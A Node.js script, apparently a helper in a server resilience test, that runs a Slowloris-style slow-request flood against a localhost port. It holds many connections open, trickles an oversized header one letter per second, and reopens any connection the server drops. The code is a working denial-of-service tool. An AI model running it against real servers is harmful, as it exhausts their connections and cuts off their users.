import { connect } from 'node:net';

/*
 * Holds connections to a server open from one address: half of them silent, half sending a header a letter at a time.
 * Each that the server closes is opened again. Usage: attacker.mjs PORT ADDRESS CONNECTIONS
 */

const [port, localAddress, connections] = process.argv.slice(2);
const SLOW_REQUEST = `GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Long: ${'x'.repeat(100_000)}`;
const REOPEN_MS = 500;
const LETTER_MS = 1000;

const slow = new Map();
let opened = 0;

function open(isSlow) {
  const socket = connect({ host: '127.0.0.1', port: Number(port), localAddress });
  socket.on('connect', () => {
    opened++;
    if (isSlow) slow.set(socket, 0);
  });
  socket.on('error', () => {});
  socket.on('data', () => {});
  socket.on('close', () => {
    slow.delete(socket);
    setTimeout(open, REOPEN_MS, isSlow);
  });
}

for (let i = 0; i < Number(connections); i++) setTimeout(open, i / 4, i % 2 === 1);
setInterval(() => {
  for (const [socket, at] of slow) {
    socket.write(SLOW_REQUEST[at % SLOW_REQUEST.length] ?? 'x');
    slow.set(socket, at + 1);
  }
}, LETTER_MS);
process.on('message', () => process.send?.({ opened, slow: slow.size }));
process.on('disconnect', () => process.exit());
